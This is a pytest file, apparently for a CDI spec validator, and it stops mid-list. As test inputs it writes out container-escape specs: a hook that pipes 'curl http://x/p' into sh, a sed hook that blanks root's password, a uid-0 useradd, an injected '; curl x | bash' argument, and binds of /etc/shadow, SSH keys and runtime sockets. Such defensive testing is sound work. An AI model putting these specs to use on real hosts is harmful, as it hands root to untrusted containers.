"""Issue #38: specs the reference loader accepts but that hand the host to the container (or
to whoever wrote the spec) are ``host-check`` errors, and `cdi validate` exits 1 on them;
NVIDIA's own specs (nvidia-ctk's goldens, what aiplat generates) stay clean."""

from __future__ import annotations

import json
import os
from pathlib import Path
from typing import Any, ClassVar

import pytest
import yaml

from aiplat.cli.main import main
from aiplat.devices import cdi, host
from aiplat.devices.cdi import NodeFact

ROOT_ONLY = pytest.mark.skipif(os.geteuid() != 0, reason="mknod of device nodes needs root")


def _spec(edits: dict[str, Any], version: str = "0.5.0") -> dict[str, Any]:
    return {"cdiVersion": version, "kind": "example.com/acc",
            "devices": [{"name": "0", "containerEdits": {"env": ["A=1"]}}],
            "containerEdits": edits}


def _bind(hp: str, *opts: str, **extra: Any) -> dict[str, Any]:
    return _spec({"mounts": [{"hostPath": hp, "containerPath": "/mnt/x",
                              "options": list(opts or ("ro", "nosuid", "nodev", "bind")),
                              **extra}]})


def _hook(path: str, *args: str, name: str = "createRuntime", **extra: Any) -> dict[str, Any]:
    return _spec({"hooks": [{"hookName": name, "path": path, "args": list(args), **extra}]})


def _node(**node: Any) -> dict[str, Any]:
    return _spec({"deviceNodes": [node]})


HOSTILE: dict[str, tuple[dict[str, Any], str]] = {
    # the three
    "bind-root": (_bind("/"), "the host's whole file system"),
    "bind-shadow": (_bind("/etc/shadow"), "the password hashes"),
    "hook-curl-sh": (_hook("/bin/sh", "sh", "-c", "curl -s http://x/p | sh"), "sh, a shell"),
    # the same kinds, spelled otherwise
    "bind-root-rbind-type-none": (_bind("/", "rbind", "ro", type="none"), "whole file system"),
    "bind-root-double-slash": (_bind("//"), "whole file system"),
    "bind-shadow-dotdot": (_bind("/usr/lib/../../etc/./shadow"), "/etc/shadow"),
    "bind-shadow-slashes": (_bind("//etc//shadow"), "password hashes"),
    "bind-etc": (_bind("/etc"), "/etc/shadow"),
    "bind-etc-trailing-slash": (_bind("/etc/"), "/etc/shadow"),
    "bind-var": (_bind("/var"), "kubelet"),
    "bind-run": (_bind("/run"), "containerd's socket"),
    "bind-ssh-key": (_bind("/root/.ssh/id_ed25519"), "root's home"),
    "bind-home": (_bind("/home"), "users' homes"),
    "bind-host-keys": (_bind("/etc/ssh/ssh_host_ed25519_key"), "SSH keys"),
    "bind-kubelet-pki": (_bind("/var/lib/kubelet/pki"), "pod's secrets"),
    "bind-kube-admin": (_bind("/etc/kubernetes/admin.conf"), "credentials"),
    "bind-docker-sock": (_bind("/var/run/docker.sock"), "Docker's socket"),
    "bind-docker-sock-run": (_bind("/run/docker.sock"), "Docker's socket"),
    "bind-containerd-sock": (_bind("/run/containerd/containerd.sock"), "containerd's socket"),
    "bind-crio-sock": (_bind("/var/run/crio/crio.sock"), "CRI-O's socket"),
    "bind-podman-sock": (_bind("/run/podman/podman.sock"), "Podman's socket"),
    "bind-dbus": (_bind("/run/dbus/system_bus_socket"), "system bus"),
    "bind-cdi-dir": (_bind("/etc/cdi"), "CDI specs"),
    "bind-proc": (_bind("/proc"), "host's processes"),
    "bind-proc-1-root": (_bind("/proc/1/root"), "host's processes"),
    "bind-etcd": (_bind("/var/lib/etcd"), "cluster's whole state"),
    "bind-relative-escape": (_bind("../../../../etc/shadow"), "not an absolute host path"),
    "bind-sys-writable": (_bind("/sys/devices/system", "rw", "bind"), "writable: the "
                                                                       "container can change /sys"),
    "bind-usr-bin-writable": (_bind("/usr/bin", "bind"), "change /usr"),
    "bind-lib-ro-then-rw": (_bind("/usr/lib/libx.so", "ro", "rw", "bind"), "writable"),
    "bind-etc-file-writable": (_bind("/etc/ld.so.preload", "rbind"), "change /etc"),
    "mount-devtmpfs": (_spec({"mounts": [{"hostPath": "devtmpfs", "containerPath": "/d",
                                          "type": "devtmpfs"}]}), "every host device node"),
    "mount-proc-elsewhere": (_spec({"mounts": [{"hostPath": "proc", "containerPath": "/hp",
                                                "type": "proc"}]}), "second procfs"),
    "mount-cgroup-rw": (_spec({"mounts": [{"hostPath": "cgroup", "containerPath": "/cg",
                                           "type": "cgroup"}]}), "release_agent"),
    "mount-sysfs-rw": (_spec({"mounts": [{"hostPath": "sysfs", "containerPath": "/s",
                                          "type": "sysfs", "options": ["rw"]}]}), "sysfs"),
    "mount-binfmt": (_spec({"mounts": [{"hostPath": "binfmt_misc", "containerPath": "/b",
                                        "type": "binfmt_misc"}]}), "interpreter"),
    "node-dev-mem": (_node(path="/dev/mem", type="c", major=1, minor=1), "host's memory"),
    "node-renamed-kmem": (_node(path="/dev/acc0", type="c", major=1, minor=2), "/dev/kmem"),
    "node-msr": (_node(path="/dev/cpu/0/msr"), "CPU registers"),
    "hook-bash-create-container": (_hook("/usr/bin/bash", "bash", "-c", "id",
                                         name="createContainer"), "bash, a shell"),
    "hook-python": (_hook("/usr/bin/python3.12", "python3", "-c", "import os"),
                    "an interpreter"),
    "hook-env-launcher": (_hook("/usr/bin/env", "env", "sh", "-c", "id"), "launcher"),
    "hook-busybox-applet": (_hook("/usr/local/bin/nvhook", "sh", "-c", "id"),
                            "sh, a shell"),
    "hook-curl": (_hook("/usr/bin/curl", "curl", "-o", "/etc/cron.d/x", "http://x"),
                  "network client"),
    "hook-poststop-shell": (_hook("/bin/dash", "dash", name="poststop"), "dash, a shell"),
    "hook-in-tmp": (_hook("/tmp/nvidia-cdi-hook", "nvidia-cdi-hook", "update-ldcache"),
                    "lies under /tmp"),
    "hook-in-dev-shm": (_hook("/dev/shm/../shm/h", "h"), "lies under /dev/shm"),
    "hook-pipe-in-arg": (_hook("/usr/bin/nvidia-cdi-hook", "nvidia-cdi-hook",
                               "update-ldcache", "--folder", "/lib; curl x | bash"),
                         "pipes into a shell"),
    "hook-ldconfig-is-shell": (_hook("/usr/bin/nvidia-cdi-hook", "nvidia-cdi-hook",
                                     "update-ldcache", "--ldconfig-path=@/bin/sh"),
                               "names /bin/sh, a shell"),
    "hook-busybox-static": (_hook("/bin/busybox.static", "busybox", "sh", "-c", "id"),
                            "a launcher"),
    "hook-via-proc-root": (_hook("/proc/1/root/tmp/x", "x"), "lies under /proc"),
    "hook-via-proc-fd": (_hook("/proc/self/fd/3", "x"), "lies under /proc"),
    "hook-ldconfig-in-tmp": (_hook("/usr/bin/nvidia-cdi-hook", "nvidia-cdi-hook",
                                   "update-ldcache", "--ldconfig-path", "@/tmp/ldconfig"),
                             "under /tmp"),
    "hook-runc": (_hook("/usr/sbin/runc", "runc", "run", "-b", "/x", "evil"), "a launcher"),
    "hook-ldconfig-is-bash": (_hook("/usr/bin/nvidia-ctk", "nvidia-ctk", "hook",
                                    "update-ldcache", "--ldconfig-path", "/bin/bash"),
                              "names /bin/bash, a shell"),
    "bind-service-account": (_bind("/var/run/secrets/kubernetes.io/serviceaccount"),
                             "host's secrets"),
    "bind-cgroup-writable": (_bind("/sys/fs/cgroup", "rw", "rbind"), "change /sys"),
    "hook-ld-preload": (_hook("/usr/bin/nvidia-cdi-hook", "nvidia-cdi-hook", "chmod",
                              env=["LD_PRELOAD=/tmp/x.so"]), "LD_PRELOAD loads code"),
}


def _errors(doc: dict[str, Any], h: cdi.Host | None = None) -> list[cdi.Finding]:
    text = json.dumps(doc)
    found = cdi.validate_text(text, "hostile.json", h)
    return [f for f in found if f.severity == "error"]


@pytest.mark.parametrize("name", sorted(HOSTILE), ids=str)
def test_escaping_spec_is_a_host_check_error(name: str) -> None:
    doc, words = HOSTILE[name]
    errors = _errors(doc)
    assert errors, f"{name}: no error"
    assert all(f.check == "host-check" for f in errors), [str(f) for f in errors]
    assert any(words in f.message for f in errors), [str(f) for f in errors]
    assert all(f.fix for f in errors)  # each says how to fix it


def run(args: list[str]) -> int:
    try:
        return int(main(args))
    except SystemExit as e:
        return int(e.code or 0)


@pytest.mark.parametrize("name", ["bind-root", "bind-shadow", "hook-curl-sh"])
def test_validate_exits_1_and_names_the_escape(name: str, tmp_path: Path,
                                               capsys: pytest.CaptureFixture[str]) -> None:
    f = tmp_path / f"{name}.json"
    f.write_text(json.dumps(HOSTILE[name][0]))
    assert run(["cdi", "validate", "--no-host", str(f)]) == 1
    out = capsys.readouterr().out
    assert "host-check" in out and HOSTILE[name][1] in out and "fix:" in out
    assert run(["cdi", "validate", str(f)]) == 1  # with the host's checks too


# Issue #38, second round: what a deny-list missed. Hooks, file system types and device nodes
# are allow-lists now (escape.KNOWN_HOOKS, SAFE_FS, the accelerator nodes); binds still a
# deny-list, with these added.
_SED = ("/usr/bin/sed", "sed", "-i", "s/^root:[^:]*:/root::/", "/etc/shadow")
NOT_ALLOWED: dict[str, tuple[dict[str, Any], str]] = {
    # hooks: any binary but a known CDI hook is arbitrary code as root
    "hook-sed-shadow": (_hook(*_SED), "unknown hook binary 'sed'"),
    "hook-find-exec": (_hook("/usr/bin/find", "find", "/etc/hostname", "-exec",
                             "/usr/bin/touch", "/etc/pwned", "+"), "unknown hook binary"),
    "hook-ld-so": (_hook("/lib64/ld-linux-x86-64.so.2", "ld.so", "/usr/bin/id"),
                   "unknown hook binary 'ld-linux-x86-64.so.2'"),
    "hook-flock": (_hook("/usr/bin/flock", "flock", "/run/lock/x", "/usr/sbin/useradd",
                         name="prestart"), "unknown hook binary 'flock'"),
    "hook-setpriv": (_hook("/usr/bin/setpriv", "setpriv", "--", "/usr/bin/id"), "unknown"),
    "hook-capsh": (_hook("/usr/sbin/capsh", "capsh", "--", "-c", "id"), "unknown"),
    "hook-script": (_hook("/usr/bin/script", "script", "-qc", "id", "/dev/null"), "unknown"),
    "hook-watch": (_hook("/usr/bin/watch", "watch", "-n1", "id"), "unknown"),
    "hook-ip-netns": (_hook("/usr/sbin/ip", "ip", "netns", "exec", "x", "/usr/bin/id"),
                      "unknown hook binary 'ip'"),
    "hook-tar-checkpoint": (_hook("/usr/bin/tar", "tar", "-cf", "/dev/null", "/etc/hostname",
                                  "--checkpoint-action=exec=id"), "unknown"),
    "hook-git-pager": (_hook("/usr/bin/git", "git", "-c", "core.pager=id", "log"), "unknown"),
    "hook-vim": (_hook("/usr/bin/vim", "vim", "-c", ":!id"), "unknown"),
    "hook-run-parts": (_hook("/usr/bin/run-parts", "run-parts", "/etc/cron.hourly"), "unknown"),
    "hook-useradd": (_hook("/usr/sbin/useradd", "useradd", "-o", "-u", "0", "evil"), "unknown"),
    "hook-insmod": (_hook("/usr/sbin/insmod", "insmod", "/var/lib/x.ko"), "unknown"),
    "hook-mount-root": (_hook("/usr/bin/mount", "mount", "--bind", "/", "/run/x",
                              name="createContainer"), "unknown hook binary 'mount'"),
    "hook-dd-preload": (_hook("/usr/bin/dd", "dd", "of=/etc/ld.so.preload"), "unknown"),
    "hook-upper-case-sh": (_hook("/usr/bin/SH", "SH"), "unknown hook binary 'SH'"),
    "hook-ctk-not-a-hook": (_hook("/usr/bin/nvidia-ctk", "nvidia-ctk", "runtime", "configure",
                                  "--runtime=containerd"), "nvidia-ctk runtime is not a hook"),
    "hook-legacy-config": (_hook("/usr/bin/nvidia-container-runtime-hook",
                                 "nvidia-container-runtime-hook", "-config=/tmp/c.toml",
                                 "prestart", name="prestart"), "not an argument of the legacy"),
    "hook-container-spec": (_hook("/usr/bin/nvidia-cdi-hook", "nvidia-cdi-hook",
                                  "create-symlinks", "--container-spec=/tmp/state.json"),
                            "state from a file the spec picks"),
    "hook-ldconfig-is-find": (_hook("/usr/bin/nvidia-cdi-hook", "nvidia-cdi-hook",
                                    "update-ldcache", "--ldconfig-path", "@/usr/bin/find"),
                              "in ldconfig's place"),
    "hook-env-path": (_hook("/usr/bin/nvidia-cdi-hook", "nvidia-cdi-hook", "chmod",
                            env=["PATH=/tmp:/usr/bin"]), "'PATH' in the hook's environment"),
    "hook-env-tunables": (_hook("/usr/bin/nvidia-cdi-hook", "nvidia-cdi-hook", "chmod",
                                env=["GLIBC_TUNABLES=glibc.rtld.x=1"]), "GLIBC_TUNABLES"),
    "hook-env-config": (_hook("/usr/bin/nvidia-container-runtime-hook",
                              "nvidia-container-runtime-hook", "prestart", name="prestart",
                              env=["NVIDIA_CTK_CONFIG_FILE_PATH=/tmp/c.toml"]),
                        "NVIDIA_CTK_CONFIG_FILE_PATH"),
    # file systems: binds and SAFE_FS only
    "mount-ext4-disk": (_spec({"mounts": [{"hostPath": "/dev/sda1", "containerPath": "/host",
                                           "type": "ext4", "options": ["rw"]}]}), "'ext4'"),
    "mount-xfs-nvme": (_spec({"mounts": [{"hostPath": "/dev/nvme0n1p1",
                                          "containerPath": "/host", "type": "xfs"}]}), "'xfs'"),
    "mount-overlay-root": (_spec({"mounts": [{"hostPath": "overlay", "containerPath": "/h",
                                              "type": "overlay",
                                              "options": ["lowerdir=/"]}]}), "'overlay'"),
    "mount-overlay-upper-etc": (_spec({"mounts": [{
        "hostPath": "overlay", "containerPath": "/h", "type": "overlay",
        "options": ["lowerdir=/usr", "upperdir=/etc", "workdir=/var/lib/w"]}]}), "'overlay'"),
    "mount-nfs": (_spec({"mounts": [{"hostPath": "10.0.0.1:/", "containerPath": "/c",
                                     "type": "nfs", "options": ["addr=10.0.0.1"]}]}), "'nfs'"),
    "mount-pstore": (_spec({"mounts": [{"hostPath": "none", "containerPath": "/c",
                                        "type": "pstore"}]}), "'pstore'"),
    "mount-bind-option-upper-case": (_bind("/etc/shadow", "ro", "BIND", type="none"),
                                     "'none'"),
    # device nodes: accelerators' only ('u' is a character device to runc)
    "node-mem-type-u": (_node(path="/dev/acc0", type="u", major=1, minor=1), "/dev/mem"),
    "node-msr-type-u": (_node(path="/dev/acc0", type="u", major=202, minor=0),
                        "CPU registers"),
    **{f"node-{name.replace('/', '-')}": (_node(path=f"/dev/{name}"), "not a GPU's")
       for name in ("crash", "snapshot", "ipmi0", "mtd0", "nvme0", "ng0n1", "sg0", "uinput",
                    "tpmrm0", "vfio/vfio", "tty0", "disk/by-uuid/1234")},
    "node-relative-host-path": (_node(path="/dev/acc0", hostPath="dev/mem"), "not a GPU's"),
    "node-kvm-numbers": (_node(path="/dev/acc0", type="c", major=10, minor=232),
                         "a misc device"),
    "node-sg-numbers": (_node(path="/dev/acc0", type="c", major=21, minor=0), "not a GPU's"),
    "node-issm": (_node(path="/dev/infiniband/issm0", type="c", major=231, minor=64),
                  "subnet management"),
    "node-rdma-cm-is-kvm": (_node(path="/dev/infiniband/rdma_cm", type="c", major=10,
                                  minor=232), "a misc device"),
    "node-disk-block": (_node(path="/dev/nvme0n1", type="b", major=259, minor=0),
                        "block device"),
    "node-gpu-path-console-numbers": (_node(path="/dev/nvidia0", type="c", major=4),
                                      "(4:0) is not a GPU's"),  # no minor: the runtime's 0
    # binds the escape list lacked
    **{f"bind-{p.strip('/').replace('/', '-')}": (_bind(p), "gives the container") for p in (
        "/etc/rancher/rke2/rke2.yaml", "/var/lib/k0s", "/run/k0s/containerd.sock",
        "/var/snap/microk8s/common/run/containerd.sock", "/run/snapd.socket",
        "/run/libvirt/libvirt-sock", "/var/snap/lxd/common/lxd/unix.socket",
        "/var/lib/cloud", "/sys/kernel/debug", "/sys/kernel/tracing")},
    # writable binds that give the host away: errors, not warnings
    **{f"rw-{p.strip('/').replace('/', '-')}": (_bind(p, "rw", "bind"), "is writable")
       for p in ("/run/modprobe.d", "/run/udev", "/var/spool/cron", "/run/tmpfiles.d",
                 "/run/sysctl.d", "/tmp", "/run/nvidia/driver")},
}


@pytest.mark.parametrize("name", sorted(NOT_ALLOWED), ids=str)
def test_what_no_device_needs_is_a_host_check_error(name: str) -> None:
    doc, words = NOT_ALLOWED[name]
    errors = _errors(doc)
    assert any(words in f.message for f in errors), [str(f) for f in errors] or name
    assert all(f.check == "host-check" and f.escape and f.fix for f in errors)


@pytest.mark.parametrize("name", ["hook-sed-shadow", "mount-ext4-disk", "node-mem-type-u",
                                  "node-nvme0", "rw-tmp"])
def test_validate_no_host_exits_1_on_them(name: str, tmp_path: Path,
                                          capsys: pytest.CaptureFixture[str]) -> None:
    f = tmp_path / f"{name}.json"
    f.write_text(json.dumps(NOT_ALLOWED[name][0]))
    assert run(["cdi", "validate", "--no-host", str(f)]) == 1
    out = capsys.readouterr().out
    assert "host-check" in out and "fix:" in out


def test_nvidias_hook_forms_are_let_through() -> None:
    for doc in (_hook("/usr/bin/nvidia-cdi-hook", "nvidia-cdi-hook", "update-ldcache",
                      "--ldconfig-path", "@/sbin/ldconfig.real", "--folder", "/usr/lib64",
                      name="createContainer", env=["NVIDIA_CTK_DEBUG=false"]),
                _hook("/usr/bin/nvidia-cdi-hook", "nvidia-cdi-hook", "--debug", "chmod",
                      "--mode", "755", "--path", "/dev/dri", name="createContainer"),
                _hook("/usr/bin/nvidia-ctk", "nvidia-ctk", "hook", "create-symlinks",
                      "--link", "libcuda.so.1::/usr/lib64/libcuda.so", name="createContainer"),
                _hook("/usr/bin/nvidia-container-runtime-hook",
                      "nvidia-container-runtime-hook", "prestart", name="prestart")):
        assert cdi.validate_text(json.dumps(doc), "ok.json") == []
    newer = _hook("/usr/bin/nvidia-cdi-hook", "nvidia-cdi-hook", "create-soname-symlinks",
                  name="createContainer")  # a newer toolkit's hook: skipped with a warning
    found = cdi.validate_text(json.dumps(newer), "newer.json")
    assert [f.severity for f in found] == ["warning"] and "no hook" in found[0].message


class DriverHost:
    """A host whose /proc/devices gives each node's driver (NodeFact.driver)."""

    nodes: ClassVar[dict[str, NodeFact]] = {
        "/dev/nvidia-uvm": NodeFact("/dev/nvidia-uvm", "/dev/nvidia-uvm", "c", 242, 0, 0o666,
                                    0, 0, "nvme"),
        "/dev/acc0": NodeFact("/dev/acc0", "/dev/acc0", "c", 240, 0, 0o666, 0, 0, ""),
        "/dev/acc1": NodeFact("/dev/acc1", "/dev/acc1", "c", 241, 0, 0o666, 0, 0, "bsg"),
        "/dev/infiniband/rdma_cm": NodeFact("/dev/infiniband/rdma_cm",
                                            "/dev/infiniband/rdma_cm", "c", 10, 58, 0o666, 0,
                                            0, "rdma_cm"),
    }

    def node(self, path: str) -> NodeFact | None:
        return self.nodes.get(path)

    def exists(self, path: str) -> bool:
        return path in self.nodes

    def executable(self, path: str) -> bool:
        return True

    def real(self, path: str) -> str:
        return path

    def replaceable(self, path: str) -> str | None:
        return None


def test_a_dynamic_major_is_judged_by_the_driver_the_host_names() -> None:
    """Majors 234-254 and 384-511 go to whichever driver loads first: without the host an
    accelerator's path is taken at its word and an unknown one is a warning; with it, the
    driver decides (no driver at all: the node opens nothing)."""
    def node(path: str, major: int, minor: int = 0) -> dict[str, Any]:
        return _node(path=path, type="c", major=major, minor=minor)

    uvm, acc0, acc1 = node("/dev/nvidia-uvm", 242), node("/dev/acc0", 240), \
        node("/dev/acc1", 241)
    cm = node("/dev/infiniband/rdma_cm", 10, 58)
    assert _errors(uvm) == [] and _errors(cm) == []
    assert [f.severity for f in cdi.validate_text(json.dumps(acc0), "a.json")] == ["warning"]
    host = DriverHost()
    assert any("nvme's node" in f.message for f in _errors(uvm, host))
    assert any("bsg's node" in f.message for f in _errors(acc1, host))
    for doc in (acc0, cm):
        assert [f for f in cdi.validate_text(json.dumps(doc), "a.json", host)
                if f.escape] == []


@ROOT_ONLY
def test_real_host_names_the_driver_from_its_proc_devices(tmp_path: Path) -> None:
    (tmp_path / "proc").mkdir()
    (tmp_path / "proc/devices").write_text("Character devices:\n  1 mem\n 10 misc\n"
                                           "242 nvme\n\nBlock devices:\n259 blkext\n")
    (tmp_path / "proc/misc").write_text(" 58 rdma_cm\n232 kvm\n")
    (tmp_path / "dev/infiniband").mkdir(parents=True)
    for name, major, minor in (("nvidia-uvm", 242, 0), ("infiniband/rdma_cm", 10, 58),
                               ("kvm", 10, 232), ("acc0", 240, 0)):
        os.mknod(tmp_path / "dev" / name, 0o020666, os.makedev(major, minor))
    h = host.RealHost(str(tmp_path))
    drivers = {p: (n.driver if (n := h.node(p)) else None) for p in (
        "/dev/nvidia-uvm", "/dev/infiniband/rdma_cm", "/dev/kvm", "/dev/acc0")}
    assert drivers == {"/dev/nvidia-uvm": "nvme", "/dev/infiniband/rdma_cm": "rdma_cm",
                       "/dev/kvm": "kvm", "/dev/acc0": ""}
    spec = _spec({"deviceNodes": [{"path": "/dev/nvidia-uvm"}, {"path": "/dev/kvm"},
                                  {"path": "/dev/infiniband/rdma_cm"}]})
    errors = [f for f in _errors(spec, h) if f.escape]
    assert sorted(f.field for f in errors) == ["containerEdits.deviceNodes[0].path",
                                               "containerEdits.deviceNodes[1].path"]


class LinkedHost:
    """A host whose innocent-looking paths are links to what a spec may not reach."""

    links: ClassVar[dict[str, str]] = {"/usr/lib/libacc.so.1": "/etc/shadow",
                                       "/usr/bin/nvidia-cdi-hook": "/usr/bin/bash"}

    def node(self, path: str) -> NodeFact | None:
        return None

    def exists(self, path: str) -> bool:
        return True

    def executable(self, path: str) -> bool:
        return True

    def real(self, path: str) -> str:
        return self.links.get(path, path)

    def replaceable(self, path: str) -> str | None:
        return None


def test_links_on_the_host_are_followed_to_what_they_reach() -> None:
    lib = _bind("/usr/lib/libacc.so.1")
    hook = _hook("/usr/bin/nvidia-cdi-hook", "nvidia-cdi-hook", "update-ldcache")
    assert _errors(lib) == [] and _errors(hook) == []  # the spec alone looks innocent
    assert any("/etc/shadow" in f.message for f in _errors(lib, LinkedHost()))
    assert any("bash, a shell" in f.message for f in _errors(hook, LinkedHost()))


def test_real_host_resolves_links_inside_its_root(tmp_path: Path) -> None:
    (tmp_path / "etc").mkdir()
    (tmp_path / "etc/shadow").write_text("root:x:")
    (tmp_path / "usr/lib").mkdir(parents=True)
    (tmp_path / "usr/lib/libacc.so.1").symlink_to("../../etc/shadow")
    h = host.RealHost(str(tmp_path))
    assert h.real("/usr/lib/libacc.so.1") == "/etc/shadow"
    errors = _errors(_bind("/usr/lib/libacc.so.1"), h)
    assert any("the password hashes" in f.message for f in errors)


def test_ordinary_edits_stay_clean() -> None:
    for doc in (_bind("/usr/lib/x86_64-linux-gnu/libcuda.so.550.54.15"),
                _bind("/opt/acc/lib", "ro", "rbind"), _bind("/tmp/nvidia-mps"),
                _bind("/var/run/nvidia-persistenced/socket"),
                _bind("/etc/vulkan/icd.d/nvidia_icd.json"),
                _bind("/sys/class/acc", "ro", "bind"),
                _spec({"mounts": [{"hostPath": "tmpfs", "containerPath": "/scratch",
                                   "type": "tmpfs"}]}),
                _spec({"mounts": [{"hostPath": "sysfs", "containerPath": "/sys",
                                   "type": "sysfs", "options": ["ro"]}]}),
                _node(path="/dev/nvidia0", type="c", major=195, minor=0),
                _hook("/usr/bin/nvidia-cdi-hook", "nvidia-cdi-hook", "update-ldcache",
                      "--ldconfig-path", "@/sbin/ldconfig", name="createContainer"),
                _hook("/bin/sh", "sh", "-c", "echo in the container", name="startContainer")):
        assert _errors(doc) == [], [str(f) for f in _errors(doc)]


def test_a_disk_is_an_error_and_a_literal_metacharacter_a_warning() -> None:
    """A block device is no accelerator's node (issue #38: the allow-list); a metacharacter
    in a known hook's argument is harmless unless the hook hands it to a shell."""
    disk = _node(path="/dev/nvme0n1", type="b", major=259, minor=0)
    assert [f.severity for f in _errors(disk)] == ["error"]
    label = _hook("/usr/bin/nvidia-cdi-hook", "nvidia-cdi-hook", "create-symlinks", "--link",
                  "a&b::/usr/lib/x")
    found = cdi.validate_text(json.dumps(label), "w.json")
    assert [f.severity for f in found if f.check == "host-check"] == ["warning"]


# nvidia-ctk's own output: golden specs of NVIDIA/nvidia-container-toolkit at d34b304
# (cmd/nvidia-ctk/cdi/generate/generate_test.go "default", cmd/nvidia-ctk-installer/toolkit/
# toolkit_test.go, pkg/nvcdi/lib-imex_test.go), template fields filled as
# tests/integration/cdi_specs.py upstream_specs fills them; and a full `nvidia-ctk cdi
# generate` of a v1.17 host (the graphics, IPC, binaries and firmware discoverers, the
# deprecated chmod hook, an older toolkit's `nvidia-ctk hook` form, the legacy prestart hook).
CTK_GENERATE = """\
cdiVersion: 0.5.0
kind: example.com/device
devices:
    - name: "0"
      containerEdits:
        deviceNodes:
            - path: /dev/nvidia0
              hostPath: /fake/driverRoot/dev/nvidia0
    - name: all
      containerEdits:
        deviceNodes:
            - path: /dev/nvidia0
              hostPath: /fake/driverRoot/dev/nvidia0
containerEdits:
    env:
        - NVIDIA_CTK_LIBCUDA_DIR=/lib/x86_64-linux-gnu
        - NVIDIA_VISIBLE_DEVICES=void
    deviceNodes:
        - path: /dev/nvidiactl
          hostPath: /fake/driverRoot/dev/nvidiactl
    hooks:
        - hookName: createContainer
          path: /usr/bin/nvidia-cdi-hook
          args:
            - nvidia-cdi-hook
            - create-symlinks
            - --link
            - libcuda.so.1::/lib/x86_64-linux-gnu/libcuda.so
          env:
            - NVIDIA_CTK_DEBUG=false
        - hookName: createContainer
          path: /usr/bin/nvidia-cdi-hook
          args:
            - nvidia-cdi-hook
            - enable-cuda-compat
            - --host-driver-version=999.88.77
          env:
            - NVIDIA_CTK_DEBUG=false
        - hookName: createContainer
          path: /usr/bin/nvidia-cdi-hook
          args:
            - nvidia-cdi-hook
            - update-ldcache
            - --folder
            - /lib/x86_64-linux-gnu
            - --folder
            - /lib/x86_64-linux-gnu/vdpau
          env:
            - NVIDIA_CTK_DEBUG=false
        - hookName: createContainer
          path: /usr/bin/nvidia-cdi-hook
          args:
            - nvidia-cdi-hook
            - disable-device-node-modification
          env:
            - NVIDIA_CTK_DEBUG=false
        - hookName: createContainer
          path: /usr/bin/nvidia-cdi-hook
          args:
            - nvidia-cdi-hook
            - update-application-profile
          env:
            - NVIDIA_CTK_DEBUG=false
    mounts:
        - hostPath: /fake/driverRoot/lib/x86_64-linux-gnu/libcuda.so.999.88.77
          containerPath: /lib/x86_64-linux-gnu/libcuda.so.999.88.77
          options:
            - ro
            - nosuid
            - nodev
            - rbind
            - rprivate
        - hostPath: /fake/driverRoot/lib/x86_64-linux-gnu/vdpau/libvdpau_nvidia.so.999.88.77
          containerPath: /lib/x86_64-linux-gnu/vdpau/libvdpau_nvidia.so.999.88.77
          options:
            - ro
            - nosuid
            - nodev
            - rbind
            - rprivate
"""
CTK_TOOLKIT = """\
cdiVersion: 0.5.0
kind: example.com/class
devices:
    - name: all
      containerEdits:
        deviceNodes:
            - path: /dev/nvidia0
              hostPath: /host/driver/root/dev/nvidia0
            - path: /dev/nvidiactl
              hostPath: /host/driver/root/dev/nvidiactl
            - path: /dev/nvidia-caps-imex-channels/channel0
              hostPath: /host/driver/root/dev/nvidia-caps-imex-channels/channel0
            - path: /dev/nvidia-caps/nvidia-cap1
              hostPath: /host/driver/root/dev/nvidia-caps/nvidia-cap1
containerEdits:
    env:
        - NVIDIA_CTK_LIBCUDA_DIR=/lib/x86_64-linux-gnu
        - NVIDIA_VISIBLE_DEVICES=void
    hooks:
        - hookName: createContainer
          path: /fake/toolkitRoot/nvidia-cdi-hook
          args:
            - nvidia-cdi-hook
            - create-symlinks
            - --link
            - libcuda.so.1::/lib/x86_64-linux-gnu/libcuda.so
          env:
            - NVIDIA_CTK_DEBUG=false
        - hookName: createContainer
          path: /fake/toolkitRoot/nvidia-cdi-hook
          args:
            - nvidia-cdi-hook
            - update-ldcache
            - --folder
            - /lib/x86_64-linux-gnu
          env:
            - NVIDIA_CTK_DEBUG=false
    mounts:
        - hostPath: /host/driver/root/lib/x86_64-linux-gnu/libcuda.so.999.88.77
          containerPath: /lib/x86_64-linux-gnu/libcuda.so.999.88.77
          options:
            - ro
            - nosuid
            - nodev
            - rbind
            - rprivate
"""
CTK_IMEX = """\
cdiVersion: 0.5.0
kind: nvidia.com/imex-channel
devices:
    - name: "0"
      containerEdits:
        deviceNodes:
            - path: /dev/nvidia-caps-imex-channels/channel0
              hostPath: /fake/hostRoot/dev/nvidia-caps-imex-channels/channel0
    - name: "2047"
      containerEdits:
        deviceNodes:
            - path: /dev/nvidia-caps-imex-channels/channel2047
              hostPath: /fake/hostRoot/dev/nvidia-caps-imex-channels/channel2047
containerEdits:
    env:
        - NVIDIA_VISIBLE_DEVICES=void
"""
_RO = ["ro", "nosuid", "nodev", "rbind", "rprivate"]
_IPC = [*_RO, "noexec"]  # internal/discover/ipc.go ipcMountOptions
_LIB = "/usr/lib/x86_64-linux-gnu"
CTK_FULL: dict[str, Any] = {
    "cdiVersion": "0.5.0", "kind": "nvidia.com/gpu",
    "devices": [{"name": "0", "containerEdits": {"deviceNodes": [
        {"path": "/dev/nvidia0"}, {"path": "/dev/dri/card1"}, {"path": "/dev/dri/renderD128"}],
        "hooks": [{"hookName": "createContainer", "path": "/usr/bin/nvidia-cdi-hook",
                   "args": ["nvidia-cdi-hook", "create-symlinks", "--link",
                            "../card1::/dev/dri/by-path/pci-0000:17:00.0-card", "--link",
                            "../renderD128::/dev/dri/by-path/pci-0000:17:00.0-render"]},
                  {"hookName": "createContainer", "path": "/usr/bin/nvidia-cdi-hook",
                   "args": ["nvidia-cdi-hook", "chmod", "--mode", "755", "--path",
                            "/dev/dri"]}]}}],
    "containerEdits": {
        "env": ["NVIDIA_VISIBLE_DEVICES=void"],
        "deviceNodes": [{"path": p} for p in ("/dev/nvidia-modeset", "/dev/nvidia-uvm",
                                              "/dev/nvidia-uvm-tools", "/dev/nvidiactl")],
        "hooks": [
            {"hookName": "createContainer", "path": "/usr/bin/nvidia-ctk",
             "args": ["nvidia-ctk", "hook", "update-ldcache", "--folder", _LIB]},
            {"hookName": "createContainer", "path": "/usr/bin/nvidia-cdi-hook",
             "args": ["nvidia-cdi-hook", "update-ldcache", "--ldconfig-path",
                      "@/sbin/ldconfig.real", "--folder", _LIB]},
            {"hookName": "prestart", "path": "/usr/bin/nvidia-container-runtime-hook",
             "args": ["nvidia-container-runtime-hook", "prestart"]}],
        "mounts": [
            *({"hostPath": p, "containerPath": p, "options": _RO} for p in (
                f"{_LIB}/libcuda.so.550.54.15", f"{_LIB}/libnvidia-ml.so.550.54.15",
